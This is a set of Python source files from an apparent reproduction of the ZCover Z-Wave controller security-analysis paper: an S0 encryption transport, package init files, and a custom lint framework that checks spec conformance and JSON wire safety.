    def encapsulate(
        self, plaintext: bytes, receiver_nonce: bytes, src: int, dst: int
    ) -> S0Encapsulated:
        """Encrypt *plaintext* for (src → dst) using *receiver_nonce*."""
        sender_nonce = bytes(self._rng.randrange(256) for _ in range(NONCE_SIZE))
        iv = sender_nonce + receiver_nonce
        ciphertext = self._cipher.encrypt_ofb(iv, plaintext)
        header = bytes([CMD_MESSAGE_ENCAPSULATION, src, dst, len(ciphertext)])
        mac = self._mac(header, sender_nonce, receiver_nonce, ciphertext)
        return S0Encapsulated(sender_nonce, ciphertext, receiver_nonce[0], mac)

    def decapsulate(self, encap: S0Encapsulated, src: int, dst: int) -> bytes:
        """Verify and decrypt an encapsulation addressed (src → dst)."""
        receiver_nonce = self.consume_nonce(encap.receiver_nonce_id)
        header = bytes([CMD_MESSAGE_ENCAPSULATION, src, dst, len(encap.ciphertext)])
        expected = self._mac(header, encap.sender_nonce, receiver_nonce, encap.ciphertext)
        if expected != encap.mac:
            raise AuthenticationError("S0 MAC verification failed")
        iv = encap.sender_nonce + receiver_nonce
        return self._cipher.decrypt_ofb(iv, encap.ciphertext)
