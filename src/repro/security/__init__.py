"""Security substrate: AES-128, CMAC, CCM, Curve25519, S0 and S2 transports.

Implements the three Z-Wave transport encapsulation modes of Section II-A1
of the paper (No Security / S0 / S2) on top of from-scratch primitives.
"""

from .aes import AES128
from .ccm import ccm_decrypt, ccm_encrypt
from .cmac import aes_cmac, verify_cmac
from .curve25519 import public_key, shared_secret, x25519
from .kdf import ExpandedKeys, ckdf_expand, ckdf_temp_extract, derive_s0_keys
from .s0 import S0Context, S0Encapsulated, TEMP_KEY
from .s2 import (
    S2Bootstrap,
    S2Context,
    S2Encapsulated,
    SpanState,
    generate_network_key,
)

__all__ = [
    "AES128",
    "aes_cmac",
    "ccm_decrypt",
    "ccm_encrypt",
    "ckdf_expand",
    "ckdf_temp_extract",
    "derive_s0_keys",
    "ExpandedKeys",
    "generate_network_key",
    "public_key",
    "S0Context",
    "S0Encapsulated",
    "S2Bootstrap",
    "S2Context",
    "S2Encapsulated",
    "shared_secret",
    "SpanState",
    "TEMP_KEY",
    "verify_cmac",
    "x25519",
]
