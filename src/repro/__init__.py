"""ZCover reproduction: systematic security analysis of Z-Wave controllers.

A from-scratch Python implementation of the DSN 2025 paper "ZCover:
Uncovering Z-Wave Controller Vulnerabilities Through Systematic Security
Analysis of Application Layer Implementation", including every substrate it
needs: the Z-Wave protocol stack (:mod:`repro.zwave`), the S0/S2 security
transports (:mod:`repro.security`), a simulated sub-GHz radio
(:mod:`repro.radio`), the vulnerable Table II device testbed
(:mod:`repro.simulator`), the ZCover framework itself (:mod:`repro.core`)
and reporting/defence extensions (:mod:`repro.analysis`).

Quickstart::

    from repro.core import run_campaign, Mode, HOUR

    result = run_campaign(device="D1", mode=Mode.FULL, duration=HOUR)
    print(result.unique_vulnerabilities, "unique vulnerabilities")
"""

__version__ = "1.0.0"

__all__ = ["__version__"]
