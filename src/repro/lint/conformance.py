"""Spec-conformance lint: dispatch tables must agree with the registry.

ZCover's core finding is *drift* between what a controller declares and
what its implementation actually processes — the unknown-properties phase
that surfaced the proprietary CMDCLs 0x01/0x02.  Our reproduction can
drift the same way internally: :mod:`repro.zwave.spec_data` defines the
ground-truth registry while the simulator's dispatch code and the
mutation engine reference CMDCL/CMD identifiers as literals.  This
analyzer statically extracts those literals and cross-checks them against
:class:`~repro.zwave.registry.SpecRegistry` — a static mirror of the
paper's Phase-2 discovery pointed at our own source.

Rules
=====

``C201`` (phantom command class)
    A CMDCL literal handled by dispatch code (compared against
    ``*.cmdcl`` or built into an ``ApplicationPayload``) that the
    registry does not define.

``C202`` (phantom command)
    A ``(CMDCL, CMD)`` pair handled by dispatch code whose command the
    registry does not define for that class.  Pairs come from boolean
    tests combining both comparisons, and from handler functions whose
    body references exactly one distinct CMDCL (the per-class handler
    idiom of :mod:`repro.simulator.controller`).

``C203`` (unreachable spec entry)
    A controller-relevant registry class that no dispatch module ever
    references.  Suppressed entirely when a generic registry-driven
    dispatch path exists (a ``registry.get(...)`` call reaches every
    class by construction) — the rule fires on trees that route commands
    through explicit per-class tables only.

``C204`` (unknown mutation field)
    An entry of a ``FIELD_OPERATORS`` mutation table keyed by a frame
    field name outside the canonical Z-Wave frame layout.
"""

from __future__ import annotations

import ast
from typing import List, Optional, Set, Tuple

from .base import Analyzer, SourceFile, dotted_name, int_const
from .findings import LintFinding, Severity

#: The modules whose dispatch literals are cross-checked by default.  On
#: a synthetic tree (unit tests) where none of these exist, every file is
#: scanned instead.
DEFAULT_DISPATCH_FILES: Tuple[str, ...] = (
    "simulator/controller.py",
    "simulator/slave.py",
    "core/mutation.py",
)

#: The canonical Z-Wave frame fields of Table I (MAC header + APL + CS).
CANONICAL_FRAME_FIELDS = frozenset(
    {"H-ID", "SRC", "P1", "P2", "LEN", "DST", "CMDCL", "CMD", "PARAM", "CS"}
)

#: Dict-table names whose keys must be canonical frame field names.
_MUTATION_TABLE_NAMES = frozenset({"FIELD_OPERATORS"})


def _compare_consts(node: ast.Compare, attr: str) -> List[int]:
    """Constants compared for equality/membership against ``*.<attr>``."""
    left = dotted_name(node.left)
    if left is None or not (left == attr or left.endswith(f".{attr}")):
        return []
    out: List[int] = []
    for op, comparator in zip(node.ops, node.comparators):
        # NotEq/NotIn guards (`if p.cmdcl != 0x85: return`) reference the
        # constant just as much as the positive forms do.
        if not isinstance(op, (ast.Eq, ast.In, ast.NotEq, ast.NotIn)):
            continue
        value = int_const(comparator)
        if value is not None:
            out.append(value)
        elif isinstance(comparator, (ast.Tuple, ast.List, ast.Set)):
            out.extend(
                v for v in (int_const(e) for e in comparator.elts) if v is not None
            )
    return out


def _payload_construct_cmdcl(node: ast.Call) -> Optional[int]:
    """The constant first argument of an ``ApplicationPayload(...)`` call."""
    name = dotted_name(node.func)
    if name is None or name.split(".")[-1] != "ApplicationPayload":
        return None
    if not node.args:
        return None
    return int_const(node.args[0])


class ConformanceAnalyzer(Analyzer):
    """Cross-check dispatch literals against the specification registry."""

    name = "spec-conformance"
    rules = {
        "C201": "dispatch references a command class absent from the registry",
        "C202": "dispatch references a command the registry does not define",
        "C203": "controller-relevant registry class never dispatched",
        "C204": "mutation table targets an unknown frame field",
    }

    def __init__(
        self,
        registry=None,
        dispatch_files: Tuple[str, ...] = DEFAULT_DISPATCH_FILES,
    ):
        self._registry = registry
        self._dispatch_files = tuple(dispatch_files)

    def _load_registry(self):
        if self._registry is not None:
            return self._registry
        from ..zwave.registry import load_full_registry

        return load_full_registry()

    def analyze(self, sources: List[SourceFile]) -> List[LintFinding]:
        """Cross-check every dispatch file's literals against the registry."""
        registry = self._load_registry()
        selected = [s for s in sources if s.rel in self._dispatch_files]
        if not selected:
            selected = list(sources)
        findings: List[LintFinding] = []
        referenced: Set[int] = set()
        generic_dispatch = False
        for source in selected:
            file_findings, cmdcls, has_generic = self._analyze_file(source, registry)
            findings.extend(file_findings)
            referenced |= cmdcls
            generic_dispatch = generic_dispatch or has_generic
        if not generic_dispatch:
            findings.extend(self._unreachable(selected, registry, referenced))
        return findings

    # -- per-file extraction ---------------------------------------------------

    def _analyze_file(self, source: SourceFile, registry):
        findings: List[LintFinding] = []
        referenced: Set[int] = set()
        generic = False
        for _scope, nodes in source.scopes():
            scope_cmdcls: Set[int] = set()
            cmd_refs: List[Tuple[int, ast.Compare]] = []
            pair_nodes: List[Tuple[int, int, ast.AST]] = []
            for node in nodes:
                if isinstance(node, ast.Call):
                    target = dotted_name(node.func)
                    if target is not None and target.endswith("registry.get"):
                        generic = True
                    cmdcl = _payload_construct_cmdcl(node)
                    if cmdcl is not None:
                        scope_cmdcls.add(cmdcl)
                        findings.extend(
                            self._check_cmdcl(source, node, cmdcl, registry)
                        )
                elif isinstance(node, ast.Compare):
                    for cmdcl in _compare_consts(node, "cmdcl"):
                        scope_cmdcls.add(cmdcl)
                        findings.extend(
                            self._check_cmdcl(source, node, cmdcl, registry)
                        )
                    for cmd in _compare_consts(node, "cmd"):
                        cmd_refs.append((cmd, node))
                elif isinstance(node, ast.BoolOp) and isinstance(node.op, ast.And):
                    pair_nodes.extend(self._pairs_from_boolop(node))
                elif isinstance(node, ast.Assign):
                    findings.extend(self._check_mutation_table(source, node))
            # Pair every bare `.cmd == X` with the scope's CMDCL when the
            # scope references exactly one class (per-class handler idiom).
            pairs = list(pair_nodes)
            paired_cmds = {id(n) for _, _, n in pair_nodes}
            if len(scope_cmdcls) == 1:
                (only,) = scope_cmdcls
                pairs.extend(
                    (only, cmd, node)
                    for cmd, node in cmd_refs
                    if id(node) not in paired_cmds
                )
            findings.extend(self._check_pairs(source, pairs, registry))
            referenced |= scope_cmdcls
        return findings, referenced, generic

    def _pairs_from_boolop(self, node: ast.BoolOp):
        cmdcls: Set[int] = set()
        cmds: List[Tuple[int, ast.AST]] = []
        for value in node.values:
            if isinstance(value, ast.Compare):
                cmdcls.update(_compare_consts(value, "cmdcl"))
                cmds.extend((c, value) for c in _compare_consts(value, "cmd"))
        if len(cmdcls) != 1:
            return []
        (only,) = cmdcls
        return [(only, cmd, compare) for cmd, compare in cmds]

    # -- rule checks -----------------------------------------------------------

    def _check_cmdcl(self, source, node, cmdcl: int, registry) -> List[LintFinding]:
        if cmdcl in registry:
            return []
        return [
            LintFinding(
                rule="C201",
                severity=Severity.ERROR,
                path=source.rel,
                line=node.lineno,
                col=node.col_offset,
                message=f"command class 0x{cmdcl:02X} is handled but not in the registry",
                hint="register it in zwave/spec_data.py or drop the phantom handler",
            )
        ]

    def _check_pairs(self, source, pairs, registry) -> List[LintFinding]:
        findings = []
        seen: Set[Tuple[int, int, int]] = set()
        for cmdcl, cmd, node in pairs:
            cls = registry.get(cmdcl)
            if cls is None or cls.command(cmd) is not None:
                continue  # phantom class already reported by C201
            key = (cmdcl, cmd, node.lineno)
            if key in seen:
                continue
            seen.add(key)
            findings.append(
                LintFinding(
                    rule="C202",
                    severity=Severity.ERROR,
                    path=source.rel,
                    line=node.lineno,
                    col=node.col_offset,
                    message=(
                        f"command 0x{cmd:02X} of {cls.name} (0x{cmdcl:02X}) is "
                        "handled but not defined in the registry"
                    ),
                    hint="add the command to zwave/spec_data.py or fix the handler",
                )
            )
        return findings

    def _check_mutation_table(self, source, node: ast.Assign) -> List[LintFinding]:
        targets = {t.id for t in node.targets if isinstance(t, ast.Name)}
        if not (targets & _MUTATION_TABLE_NAMES) or not isinstance(node.value, ast.Dict):
            return []
        findings = []
        for key in node.value.keys:
            if not (isinstance(key, ast.Constant) and isinstance(key.value, str)):
                continue
            if key.value in CANONICAL_FRAME_FIELDS:
                continue
            findings.append(
                LintFinding(
                    rule="C204",
                    severity=Severity.ERROR,
                    path=source.rel,
                    line=key.lineno,
                    col=key.col_offset,
                    message=f"mutation table targets unknown frame field {key.value!r}",
                    hint=f"canonical fields: {', '.join(sorted(CANONICAL_FRAME_FIELDS))}",
                )
            )
        return findings

    # -- C203 ------------------------------------------------------------------

    def _unreachable(self, selected, registry, referenced: Set[int]) -> List[LintFinding]:
        findings = []
        anchor = selected[0] if selected else None
        for cls_id in registry.controller_relevant_ids():
            if cls_id in referenced:
                continue
            cls = registry.get(cls_id)
            findings.append(
                LintFinding(
                    rule="C203",
                    severity=Severity.ERROR,
                    path=anchor.rel if anchor else "<registry>",
                    line=1,
                    col=0,
                    message=(
                        f"registry class {cls.name} (0x{cls_id:02X}) is "
                        "controller-relevant but never dispatched"
                    ),
                    hint="add a handler or a generic registry.get dispatch path",
                )
            )
        return findings
