"""The structured finding model shared by every analyzer.

A finding pinpoints one violation: rule id, severity, ``path:line:col``
location, human message and a fix hint.  Findings render both as
compiler-style text and as machine-readable JSON (schema below), and the
JSON layout is covered by a golden-file test so downstream tooling can
rely on it.

JSON schema (``SCHEMA_VERSION`` 1)::

    {
      "schema": "zcover-lint-findings",
      "version": 1,
      "errors": <int>,          # findings with severity "error"
      "warnings": <int>,        # findings with severity "warning"
      "findings": [
        {
          "rule": "D102",
          "severity": "error",
          "path": "security/s0.py",     # posix path relative to the root
          "line": 83,                   # 1-based
          "col": 27,                    # 0-based, as reported by ast
          "message": "...",
          "hint": "..."                 # may be empty
        },
        ...
      ]
    }
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import Enum
from typing import Dict, List

#: Bumped on any incompatible change to the JSON layout documented above.
SCHEMA_VERSION = 1


class Severity(Enum):
    """How bad a finding is; only errors fail the build."""

    ERROR = "error"
    WARNING = "warning"


@dataclass(frozen=True)
class LintFinding:
    """One rule violation at one source location."""

    rule: str
    severity: Severity
    path: str  # posix path relative to the linted root
    line: int  # 1-based
    col: int  # 0-based (ast convention)
    message: str
    hint: str = ""

    @property
    def sort_key(self):
        return (self.path, self.line, self.col, self.rule)

    def render(self) -> str:
        """Compiler-style one-liner (plus an indented hint when present)."""
        text = f"{self.path}:{self.line}:{self.col}: {self.rule} " f"{self.severity.value}: {self.message}"
        if self.hint:
            text += f"\n    hint: {self.hint}"
        return text

    def to_dict(self) -> dict:
        """The finding as one entry of the documented JSON schema."""
        return {
            "rule": self.rule,
            "severity": self.severity.value,
            "path": self.path,
            "line": self.line,
            "col": self.col,
            "message": self.message,
            "hint": self.hint,
        }


def findings_to_document(findings: List[LintFinding]) -> Dict:
    """Reduce *findings* to the documented JSON structure (schema v1)."""
    ordered = sorted(findings, key=lambda f: f.sort_key)
    return {
        "schema": "zcover-lint-findings",
        "version": SCHEMA_VERSION,
        "errors": sum(1 for f in ordered if f.severity is Severity.ERROR),
        "warnings": sum(1 for f in ordered if f.severity is Severity.WARNING),
        "findings": [f.to_dict() for f in ordered],
    }


def render_findings(findings: List[LintFinding]) -> str:
    """Human-readable report: one block per finding plus a summary line."""
    ordered = sorted(findings, key=lambda f: f.sort_key)
    lines = [f.render() for f in ordered]
    errors = sum(1 for f in ordered if f.severity is Severity.ERROR)
    warnings = len(ordered) - errors
    if ordered:
        lines.append(f"{errors} error(s), {warnings} warning(s)")
    else:
        lines.append("no findings")
    return "\n".join(lines)
