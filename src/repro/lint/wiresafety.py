"""Wire-safety lint: worker-boundary dataclasses must stay JSON-clean.

The parallel campaign engine ships results between processes through the
codec in :mod:`repro.core.resultio`, which round-trips a fixed vocabulary
of dataclasses via plain JSON documents.  A field added with a type the
codec cannot represent (an arbitrary object, ``Any``, an un-encoded
class) does not fail loudly at the definition site — it fails at runtime
inside a worker, or worse, silently truncates data.  This analyzer walks
the wire vocabulary *statically* and proves every reachable field type is
representable.

Roots are the types :mod:`repro.core.resultio` imports at module level
from inside the package (function-level imports are deliberately not
part of the wire vocabulary).  On a synthetic tree without
``core/resultio.py`` every module-level dataclass is treated as a root,
which is what the unit tests use.

Rules
=====

``W301``
    A field of a wire dataclass (or of a dataclass reachable from one)
    has a type the JSON codec cannot represent: ``Any``/``object``, a
    class without a registered codec, or an unsupported annotation form.

``W302``
    A wire type annotation references a name the analyzer cannot resolve
    to a class, alias or builtin — usually a typo or a type defined
    outside the linted tree.

Allowed grammar: the atoms ``int``/``float``/``str``/``bool``/``bytes``/
``None``; ``List``/``Sequence``/``Tuple``/``Set``/``FrozenSet``/``Dict``/
``Mapping``/``Optional``/``Union`` (and their lowercase builtins) over
allowed types; ``Enum`` subclasses; nested dataclasses (checked
recursively); classes named in :data:`KNOWN_CODECS`, for which
``resultio`` carries hand-written encode/decode support.
"""

from __future__ import annotations

import ast
from dataclasses import dataclass
from typing import Dict, List, Set, Tuple

from .base import Analyzer, SourceFile, class_kind, dotted_name
from .findings import LintFinding, Severity

#: Non-dataclass types with hand-written codecs in ``core/resultio.py``.
KNOWN_CODECS = frozenset({"BugLog"})

#: The wire codec module whose module-level imports define the vocabulary.
WIRE_MODULE = "core/resultio.py"

_ATOMS = frozenset({"int", "float", "str", "bool", "bytes", "None", "NoneType"})

_CONTAINERS = frozenset(
    {
        "List",
        "Sequence",
        "Tuple",
        "Set",
        "FrozenSet",
        "Dict",
        "Mapping",
        "Optional",
        "Union",
        "list",
        "tuple",
        "set",
        "frozenset",
        "dict",
    }
)

_BANNED = frozenset({"Any", "object"})


@dataclass
class _ClassInfo:
    source: SourceFile
    node: ast.ClassDef
    kind: str  # "dataclass" | "enum" | "class"


def wire_vocabulary(
    sources: List[SourceFile], wire_module: str = WIRE_MODULE
) -> List[str]:
    """The wire codec's type vocabulary, as local names.

    Types :mod:`repro.core.resultio` imports at module level from inside
    the package.  On a tree without the wire module (synthetic unit-test
    trees) every module-level dataclass is in the vocabulary instead —
    the same fallback both W3xx and the flow engine's W401 use.
    """
    wire = next((s for s in sources if s.rel == wire_module), None)
    if wire is None:
        names = set()
        for source in sources:
            for node in source.tree.body:
                if isinstance(node, ast.ClassDef) and class_kind(node) == "dataclass":
                    names.add(node.name)
        return sorted(names)
    roots: List[str] = []
    for node in wire.tree.body:  # module level only, by design
        if not isinstance(node, ast.ImportFrom):
            continue
        in_package = node.level > 0 or (node.module or "").split(".")[0] == "repro"
        if not in_package:
            continue
        roots.extend(alias.asname or alias.name for alias in node.names)
    return sorted(set(roots))


class WireSafetyAnalyzer(Analyzer):
    """Prove the worker-boundary dataclasses are JSON-representable."""

    name = "wire-safety"
    rules = {
        "W301": "wire dataclass field type is not JSON-representable",
        "W302": "wire type annotation references an unresolvable name",
    }

    def __init__(
        self,
        wire_module: str = WIRE_MODULE,
        known_codecs=KNOWN_CODECS,
    ):
        self._wire_module = wire_module
        self._known_codecs = frozenset(known_codecs)

    def analyze(self, sources: List[SourceFile]) -> List[LintFinding]:
        """Resolve the wire vocabulary and type-check it recursively."""
        index, aliases, functions = self._build_index(sources)
        roots = self._wire_roots(sources, index)
        findings: List[LintFinding] = []
        checked: Set[str] = set()
        for name in roots:
            if name in self._known_codecs or name in functions:
                continue
            info = index.get(name)
            if info is not None:
                self._check_class(name, index, aliases, checked, findings)
            elif name in aliases:
                src, expr = aliases[name]
                self._check_annotation(
                    expr, src, expr.lineno, f"alias {name}", index, aliases, checked, findings
                )
            # names resolving to nothing in-tree (re-exports, typing stubs)
            # are outside this analyzer's remit and skipped silently
        return findings

    # -- indexing --------------------------------------------------------------

    def _build_index(self, sources: List[SourceFile]):
        index: Dict[str, _ClassInfo] = {}
        aliases: Dict[str, Tuple[SourceFile, ast.expr]] = {}
        functions: Set[str] = set()
        for source in sources:
            for node in source.tree.body:
                if isinstance(node, ast.ClassDef):
                    index[node.name] = _ClassInfo(source, node, class_kind(node))
                elif isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
                    functions.add(node.name)
                elif (
                    isinstance(node, ast.Assign)
                    and len(node.targets) == 1
                    and isinstance(node.targets[0], ast.Name)
                    and isinstance(node.value, (ast.Subscript, ast.Name, ast.Attribute))
                ):
                    aliases[node.targets[0].id] = (source, node.value)
        return index, aliases, functions

    def _wire_roots(
        self, sources: List[SourceFile], index: Dict[str, _ClassInfo]
    ) -> List[str]:
        return wire_vocabulary(sources, self._wire_module)

    # -- recursive type checking -----------------------------------------------

    def _check_class(
        self,
        name: str,
        index: Dict[str, _ClassInfo],
        aliases,
        checked: Set[str],
        findings: List[LintFinding],
    ) -> None:
        if name in checked:
            return
        checked.add(name)
        info = index[name]
        if info.kind != "dataclass":
            return  # enums are codec-clean; plain classes handled at the ref site
        for stmt in info.node.body:
            if not isinstance(stmt, ast.AnnAssign) or not isinstance(
                stmt.target, ast.Name
            ):
                continue
            base = stmt.annotation
            if isinstance(base, ast.Subscript):
                head = dotted_name(base.value)
                if head is not None and head.split(".")[-1] == "ClassVar":
                    continue
            self._check_annotation(
                stmt.annotation,
                info.source,
                stmt.lineno,
                f"field {stmt.target.id!r} of {name}",
                index,
                aliases,
                checked,
                findings,
            )

    def _check_annotation(
        self,
        expr: ast.expr,
        source: SourceFile,
        line: int,
        context: str,
        index: Dict[str, _ClassInfo],
        aliases,
        checked: Set[str],
        findings: List[LintFinding],
    ) -> None:
        def fail(rule: str, why: str, hint: str) -> None:
            findings.append(
                LintFinding(
                    rule=rule,
                    severity=Severity.ERROR,
                    path=source.rel,
                    line=line,
                    col=expr.col_offset,
                    message=f"{context}: {why}",
                    hint=hint,
                )
            )

        if isinstance(expr, ast.Constant):
            if expr.value is None or expr.value is Ellipsis:
                return
            if isinstance(expr.value, str):  # forward reference
                try:
                    parsed = ast.parse(expr.value, mode="eval").body
                except SyntaxError:
                    fail("W302", f"unparsable forward reference {expr.value!r}",
                         "fix the annotation string")
                    return
                self._check_annotation(
                    parsed, source, line, context, index, aliases, checked, findings
                )
                return
            fail("W301", f"literal {expr.value!r} is not a type", "use a real type")
            return

        if isinstance(expr, (ast.Name, ast.Attribute)):
            name = (dotted_name(expr) or "").split(".")[-1]
            if name in _ATOMS or name in _CONTAINERS:
                return
            if name in _BANNED:
                fail(
                    "W301",
                    f"{name} defeats the wire codec's type checking",
                    "use a concrete JSON-representable type",
                )
                return
            info = index.get(name)
            if info is not None:
                if info.kind == "enum":
                    return
                if info.kind == "dataclass":
                    self._check_class(name, index, aliases, checked, findings)
                    return
                if name in self._known_codecs:
                    return
                fail(
                    "W301",
                    f"class {name} has no wire codec",
                    "make it a dataclass of JSON-clean fields or add a codec "
                    "to core/resultio.py and KNOWN_CODECS",
                )
                return
            if name in aliases:
                src, target = aliases[name]
                self._check_annotation(
                    target, src, target.lineno, f"alias {name} (via {context})",
                    index, aliases, checked, findings,
                )
                return
            fail(
                "W302",
                f"cannot resolve type name {name!r}",
                "define it in the linted tree or use a supported builtin",
            )
            return

        if isinstance(expr, ast.Subscript):
            head = (dotted_name(expr.value) or "").split(".")[-1]
            if head not in _CONTAINERS:
                fail(
                    "W301",
                    f"unsupported generic {head or ast.dump(expr.value)!s}[...]",
                    "use List/Tuple/Set/FrozenSet/Dict/Optional/Union",
                )
                return
            inner = expr.slice
            elements = inner.elts if isinstance(inner, ast.Tuple) else [inner]
            for element in elements:
                self._check_annotation(
                    element, source, line, context, index, aliases, checked, findings
                )
            return

        if isinstance(expr, ast.BinOp) and isinstance(expr.op, ast.BitOr):
            self._check_annotation(
                expr.left, source, line, context, index, aliases, checked, findings
            )
            self._check_annotation(
                expr.right, source, line, context, index, aliases, checked, findings
            )
            return

        fail("W301", "unsupported annotation form", "use the documented type grammar")
