"""Orchestration: collect sources, run every analyzer, report.

``run_lint()`` is the single entry point used by both ``zcover lint``
and the test suite.  The default root is the installed ``repro`` package
itself, so the gate always inspects the code that is actually running.
The flow engine (:mod:`repro.lint.flow`) joins the three syntactic
families by default; ``jobs``/``cache_path`` thread straight through to
its sharded summarize stage, and the resulting purity manifest rides on
the report for the CLI's ``--write-manifest``/``--check-manifest``.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path
from typing import List, Optional

from .base import Analyzer, apply_suppressions, collect_sources
from .findings import (
    LintFinding,
    Severity,
    findings_to_document,
    render_findings,
)


def default_analyzers(
    registry=None,
    jobs: int = 1,
    cache_path: Optional[Path] = None,
    flow: bool = True,
) -> List[Analyzer]:
    """The four rule families, in reporting order."""
    from .conformance import ConformanceAnalyzer
    from .determinism import DeterminismAnalyzer
    from .flow import FlowAnalyzer
    from .wiresafety import WireSafetyAnalyzer

    analyzers: List[Analyzer] = [
        DeterminismAnalyzer(),
        ConformanceAnalyzer(registry=registry),
        WireSafetyAnalyzer(),
    ]
    if flow:
        analyzers.append(FlowAnalyzer(jobs=jobs, cache_path=cache_path))
    return analyzers


@dataclass
class LintReport:
    """Outcome of one lint run over one source root."""

    root: Path
    findings: List[LintFinding] = field(default_factory=list)
    #: Purity manifest from the flow analyzer (None when flow is off).
    manifest: Optional[dict] = None
    #: The analyzers that ran (rule tables feed the SARIF driver).
    analyzers: List[Analyzer] = field(default_factory=list)

    @property
    def errors(self) -> int:
        return sum(1 for f in self.findings if f.severity is Severity.ERROR)

    @property
    def warnings(self) -> int:
        return sum(1 for f in self.findings if f.severity is Severity.WARNING)

    @property
    def exit_code(self) -> int:
        """Non-zero iff any ERROR-severity finding survived suppression."""
        return 1 if self.errors else 0

    def strict_exit_code(self) -> int:
        """Non-zero if *anything* survived suppression, warnings included."""
        return 1 if self.findings else 0

    def to_document(self) -> dict:
        return findings_to_document(self.findings)

    def render(self) -> str:
        return render_findings(self.findings)

    def render_sarif(self) -> str:
        from .sarif import render_sarif

        return render_sarif(self.findings, self.analyzers)


def run_lint(
    root: Optional[Path] = None,
    analyzers: Optional[List[Analyzer]] = None,
    registry=None,
    jobs: int = 1,
    cache_path: Optional[Path] = None,
    flow: bool = True,
) -> LintReport:
    """Lint every ``*.py`` under *root* (default: the ``repro`` package)."""
    if root is None:
        root = Path(__file__).resolve().parents[1]
    root = Path(root)
    sources = collect_sources(root)
    if analyzers is None:
        analyzers = default_analyzers(
            registry=registry, jobs=jobs, cache_path=cache_path, flow=flow
        )
    findings: List[LintFinding] = []
    manifest: Optional[dict] = None
    for analyzer in analyzers:
        findings.extend(analyzer.analyze(sources))
        if getattr(analyzer, "manifest", None) is not None:
            manifest = analyzer.manifest
    findings = apply_suppressions(findings, sources)
    findings.sort(key=lambda f: f.sort_key)
    return LintReport(
        root=root, findings=findings, manifest=manifest, analyzers=list(analyzers)
    )
