"""Orchestration: collect sources, run every analyzer, report.

``run_lint()`` is the single entry point used by both ``zcover lint``
and the test suite.  The default root is the installed ``repro`` package
itself, so the gate always inspects the code that is actually running.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path
from typing import List, Optional

from .base import Analyzer, apply_suppressions, collect_sources
from .findings import (
    LintFinding,
    Severity,
    findings_to_document,
    render_findings,
)


def default_analyzers(registry=None) -> List[Analyzer]:
    """The three rule families, in reporting order."""
    from .conformance import ConformanceAnalyzer
    from .determinism import DeterminismAnalyzer
    from .wiresafety import WireSafetyAnalyzer

    return [
        DeterminismAnalyzer(),
        ConformanceAnalyzer(registry=registry),
        WireSafetyAnalyzer(),
    ]


@dataclass
class LintReport:
    """Outcome of one lint run over one source root."""

    root: Path
    findings: List[LintFinding] = field(default_factory=list)

    @property
    def errors(self) -> int:
        return sum(1 for f in self.findings if f.severity is Severity.ERROR)

    @property
    def warnings(self) -> int:
        return sum(1 for f in self.findings if f.severity is Severity.WARNING)

    @property
    def exit_code(self) -> int:
        """Non-zero iff any ERROR-severity finding survived suppression."""
        return 1 if self.errors else 0

    def to_document(self) -> dict:
        return findings_to_document(self.findings)

    def render(self) -> str:
        return render_findings(self.findings)


def run_lint(
    root: Optional[Path] = None,
    analyzers: Optional[List[Analyzer]] = None,
    registry=None,
) -> LintReport:
    """Lint every ``*.py`` under *root* (default: the ``repro`` package)."""
    if root is None:
        root = Path(__file__).resolve().parents[1]
    root = Path(root)
    sources = collect_sources(root)
    if analyzers is None:
        analyzers = default_analyzers(registry=registry)
    findings: List[LintFinding] = []
    for analyzer in analyzers:
        findings.extend(analyzer.analyze(sources))
    findings = apply_suppressions(findings, sources)
    findings.sort(key=lambda f: f.sort_key)
    return LintReport(root=root, findings=findings)
