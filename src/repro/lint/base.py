"""Shared analyzer framework: source loading, AST helpers, suppressions.

Every analyzer operates on :class:`SourceFile` objects (path + text +
parsed AST) and returns :class:`~repro.lint.findings.LintFinding` lists.
Inline suppressions use the form::

    something_noisy()  # lint: allow[D101] -- justification for the reader

The rule list is mandatory; the justification after ``--`` is what makes
an allowlist entry reviewable.  An allow comment without a justification
suppresses the finding but earns a ``LINT001`` warning of its own, so
unexplained escapes stay visible.
"""

from __future__ import annotations

import ast
import re
from dataclasses import dataclass, field
from pathlib import Path
from typing import Dict, List, Optional, Set, Tuple

from .findings import LintFinding, Severity

#: ``# lint: allow[D101]`` or ``# lint: allow[D101, W301] -- reason``.
_ALLOW_RE = re.compile(r"#\s*lint:\s*allow\[([A-Za-z0-9,\s]+)\]\s*(?:--\s*(\S.*))?")


@dataclass
class SourceFile:
    """One parsed Python file under the linted root.

    The module is parsed exactly once (in :meth:`load` or the perf
    harness's synthetic constructor); every analyzer that needs a flat
    node walk shares the cached :attr:`nodes` list and every scope-based
    analyzer shares :meth:`scopes`, so a four-family lint run costs one
    ``ast.parse`` and one ``ast.walk`` per file instead of one per
    analyzer.  The ``lint_tree`` perf workload pins this.
    """

    path: Path
    rel: str  # posix path relative to the linted root
    text: str
    tree: ast.Module
    lines: List[str] = field(default_factory=list)
    _nodes: Optional[List[ast.AST]] = field(default=None, repr=False)
    _scopes: Optional[list] = field(default=None, repr=False)

    @classmethod
    def load(cls, path: Path, root: Path) -> "SourceFile":
        text = path.read_text(encoding="utf-8")
        tree = ast.parse(text, filename=str(path))
        return cls(
            path=path,
            rel=path.relative_to(root).as_posix(),
            text=text,
            tree=tree,
            lines=text.splitlines(),
        )

    @classmethod
    def from_text(cls, rel: str, text: str) -> "SourceFile":
        """Build an in-memory source (synthetic trees, lint workers)."""
        tree = ast.parse(text, filename=rel)
        return cls(path=Path(rel), rel=rel, text=text, tree=tree, lines=text.splitlines())

    @property
    def nodes(self) -> List[ast.AST]:
        """Flat ``ast.walk`` of the module, computed once and shared."""
        if self._nodes is None:
            self._nodes = list(ast.walk(self.tree))
        return self._nodes

    def scopes(self):
        """Cached ``walk_scopes`` result (module scope + every function)."""
        if self._scopes is None:
            self._scopes = list(walk_scopes(self.tree))
        return self._scopes


def collect_sources(root: Path) -> List[SourceFile]:
    """Load every ``*.py`` under *root*, sorted by relative path."""
    files = sorted(p for p in root.rglob("*.py") if p.is_file())
    return [SourceFile.load(path, root) for path in files]


class Analyzer:
    """Base class: a named rule family over a list of source files."""

    #: Short family name used in reports and the architecture docs.
    name = "analyzer"

    #: rule id -> one-line description (surfaced by ``zcover lint --rules``).
    rules: Dict[str, str] = {}

    def analyze(self, sources: List[SourceFile]) -> List[LintFinding]:
        raise NotImplementedError


# -- inline suppressions -------------------------------------------------------


